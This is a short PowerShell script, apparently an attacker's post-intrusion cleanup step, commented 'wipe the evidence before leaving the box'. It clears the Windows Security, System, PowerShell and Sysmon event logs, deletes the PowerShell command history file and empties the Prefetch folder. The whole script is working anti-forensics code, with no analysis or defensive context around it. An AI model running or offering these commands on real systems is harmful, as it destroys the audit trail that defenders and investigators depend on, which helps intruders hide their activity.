# wipe the evidence before leaving the box
$logs = 'Security', 'System', 'Windows PowerShell', 'Microsoft-Windows-PowerShell/Operational'

foreach ($log in $logs) {
    wevtutil.exe cl $log
}

Clear-EventLog -LogName 'Application', 'System'

[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Microsoft-Windows-Sysmon/Operational')

Remove-Item -Path (Get-PSReadLineOption).HistorySavePath -Force -ErrorAction SilentlyContinue
Remove-Item -Path "$env:windir\Prefetch\*" -Force -ErrorAction SilentlyContinue
